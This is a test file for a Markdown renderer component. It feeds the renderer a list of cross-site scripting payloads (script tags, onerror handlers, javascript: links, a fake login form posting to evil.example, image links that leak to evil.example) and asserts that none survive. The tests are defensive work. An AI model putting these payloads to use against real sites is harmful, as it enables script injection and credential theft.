// @vitest-environment jsdom
import * as fc from 'fast-check'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { acted, render } from '../testing/render.tsx'
import { CitationContext } from './citation-context.ts'
import { Markdown } from './Markdown.tsx'

const TAGS = new Set(
  'DIV P SPAN H3 STRONG EM DEL CODE PRE BR A UL OL LI BLOCKQUOTE HR SECTION TABLE THEAD TBODY TR TH TD BUTTON svg path rect'.split(
    ' ',
  ),
)
const ATTRIBUTES =
  /^(?:class|href|title|target|rel|type|start|scope|tabindex|role|aria-[\w-]+|data-(?:depth|align|task))$/

/** What is on the page that must never come from a text. */
function trespasses(container: Element): string[] {
  const inside = [...container.querySelectorAll('*')]
  return inside.flatMap((element) => {
    const own = element.closest('svg') !== null
    if (own) return element.closest('button') ? [] : ['a picture outside of a button']
    const tag = TAGS.has(element.tagName) ? [] : [element.tagName]
    const attributes = element.getAttributeNames().filter((name) => !ATTRIBUTES.test(name))
    const href = element.getAttribute('href')
    const led = href === null || /^(?:https?:\/\/|mailto:)/.test(href) ? [] : [href]
    return [...tag, ...attributes, ...led]
  })
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<video src="https://evil.example" autoplay></video>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div><!-- --><img src=x onerror=alert(1)></div>',
  '<x onclick=alert(1)>x</x>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x]( javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.org/1)',
  '[x](//evil.example)',
  '[x](/api/bauth/users/sign-out)',
  '[x](#top)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/leak?q=secret)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][r]\n\n[r]: https://evil.example/leak.png',
  '[![x](https://evil.example/leak.png)](https://example.org)',
  '[a](https://example.org "x\\" onmouseover=alert(1) \\"")',
  '[<img src=x onerror=alert(1)>](https://example.org)',
  '| <img src=x onerror=alert(1)> | ![x](https://evil.example) |\n|--|--|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  '> - <img src=x onerror=alert(1)>\n>   1. [x](javascript:alert(1))',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '`<img src=x onerror=alert(1)>`',
  '# <img src=x onerror=alert(1)>',
  '- [ ] <input type=checkbox onclick=alert(1)>',
  '\\<img src=x onerror=alert(1)\\>',
  '&lt;img src=x onerror=alert(1)&gt;',
]

let mounted: Awaited<ReturnType<typeof render>> | null = null
async function show(text: string, streaming = false) {
  mounted = await render(<Markdown text={text} streaming={streaming} />)
  return mounted.container
}
afterEach(async () => {
  await mounted?.unmount()
  mounted = null
})

describe('Markdown', () => {
  it.each(ATTACKS)('lets nothing through of %j', async (attack) => {
    for (const streaming of [false, true]) {
      const container = await show(attack, streaming)
      expect(trespasses(container)).toEqual([])
      await mounted?.unmount()
    }
  })

  it('lets nothing through of attacks within attacks', async () => {
    const pieces = fc.constantFrom(
      ...ATTACKS,
      '**',
      '[',
      '](',
      ')',
      '<',
      '>',
      '`',
      '\n',
      '\n\n',
      '- ',
      '> ',
      '|',
    )
    const text = fc.array(pieces, { minLength: 2, maxLength: 6 }).map((parts) => parts.join(''))
    const { container, rerender } = (mounted = await render(null))
    await fc.assert(
      fc.asyncProperty(text, fc.boolean(), async (source, streaming) => {
        await rerender(<Markdown text={source} streaming={streaming} />)
        expect(trespasses(container)).toEqual([])
      }),
      { numRuns: 150 },
    )
  })

  it('leaves HTML as the words that it is, and pictures as their description', async () => {
    const container = await show('Look: <b>bold</b> ![a cat](https://example.org/cat.png)<br>next')
    expect(container.textContent).toBe('Look: <b>bold</b> a catnext')
    expect(container.querySelectorAll('br')).toHaveLength(1)
  })

  it('sends readers to other pages without saying where they come from', async () => {
    const container = await show(
      '[rules](https://example.org/rules) and www.example.org, [mail](mailto:a@example.org)',
    )
    const links = [...container.querySelectorAll('a')]
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://example.org/rules',
      'http://www.example.org/',
      'mailto:a@example.org',
    ])
    for (const link of links) {
      expect(link.rel).toBe('noopener noreferrer nofollow')
      expect(link.target).toBe('_blank')
    }
  })

  it('shows lists, tables, code and quotes', async () => {
    const container = await show(
      '## Title\n\n3. three\n4. four\n\n- [x] done\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```ts\nconst a = 1 < 2\n```\n\n> quoted\n\n---\n\nR&amp;D &#8364; 5',
    )
    expect(container.querySelector('h3')?.textContent).toBe('Title')
    expect(container.querySelector('ol')?.start).toBe(3)
    expect(container.querySelector('ul')?.textContent).toBe('☑ done')
    expect(container.querySelectorAll('th')[1]?.dataset['align']).toBe('right')
    expect(container.querySelector('pre')?.textContent).toBe('const a = 1 < 2')
    expect(container.querySelector('blockquote')?.textContent).toBe('quoted')
    expect(container.querySelector('hr')).not.toBeNull()
    expect(container.textContent).toContain('R&D € 5')
  })

  it('keeps the elements of finished blocks while more text comes', async () => {
    const { container, rerender } = (mounted = await render(
      <Markdown text={'One\n\nTwo\n\nThr'} streaming />,
    ))
    const first = container.querySelector('p')
    const seen: string[] = []
    const observer = new MutationObserver((records) => seen.push(...records.map((record) => record.type)))
    observer.observe(first!, { childList: true, characterData: true, subtree: true, attributes: true })
    for (const text of ['One\n\nTwo\n\nThree **bo', 'One\n\nTwo\n\nThree **bold**\n\nFour'])
      await rerender(<Markdown text={text} streaming />)
    await rerender(<Markdown text={'One\n\nTwo\n\nThree **bold**\n\nFour'} />)
    observer.disconnect()
    expect(container.querySelector('p')).toBe(first)
    expect(seen).toEqual([])
    expect(container.querySelector('strong')?.textContent).toBe('bold')
  })

  it('copies code', async () => {
    const writeText = vi.fn(async () => undefined)
    vi.stubGlobal('navigator', { clipboard: { writeText } })
    const container = await show('```\na < b\n```')
    await acted(() => container.querySelector('button')?.click())
    expect(writeText).toHaveBeenCalledWith('a < b')
    expect(container.querySelector('button')?.getAttribute('aria-label')).toBe('Copied')
    vi.unstubAllGlobals()
  })
})

describe('citations in Markdown', () => {
  const open = vi.fn()
  const marks = { nameOf: (n: number) => (n <= 2 ? `Source ${n}` : null), open, opened: null }
  const cited = async (text: string) => {
    mounted = await render(
      <CitationContext value={marks}>
        <Markdown text={text} />
      </CitationContext>,
    )
    return mounted.container
  }
  const numbers = (container: Element) =>
    [...container.querySelectorAll('button[aria-haspopup]')].map((button) => button.textContent)

  it('makes a button of each known number', async () => {
    const container = await cited('Four weeks [1]. Twice [1][2], (once) [2] and [3] or [x].')
    expect(numbers(container)).toEqual(['1', '1', '2', '2'])
    expect(container.textContent).toBe('Four weeks1. Twice12, (once)2 and [3] or [x].')
    await acted(() => container.querySelector<HTMLElement>('button')?.click())
    expect(open).toHaveBeenCalledWith(1)
  })

  it('finds them in every kind of block', async () => {
    const container = await cited(
      '# T [1]\n\n- i [1]\n\n| a |\n|--|\n| c [1] |\n\n> q **b [2]**\n\n[1] starts',
    )
    expect(numbers(container)).toEqual(['1', '1', '1', '2', '1'])
  })

  it('leaves code and escaped brackets alone', async () => {
    const container = await cited('`a[1]` and \\[1]\n\n```\na[1]\n```')
    expect(numbers(container)).toEqual([])
    expect(container.textContent).toContain('a[1] and [1]')
  })

  it('keeps a number even if the text defines a link of its name, and links with other words', async () => {
    const container = await cited('A [1] and [here](https://example.org).\n\n[1]: https://evil.example')
    expect(numbers(container)).toEqual(['1'])
    expect([...container.querySelectorAll('a')].map((link) => link.href)).toEqual(['https://example.org/'])
  })
})
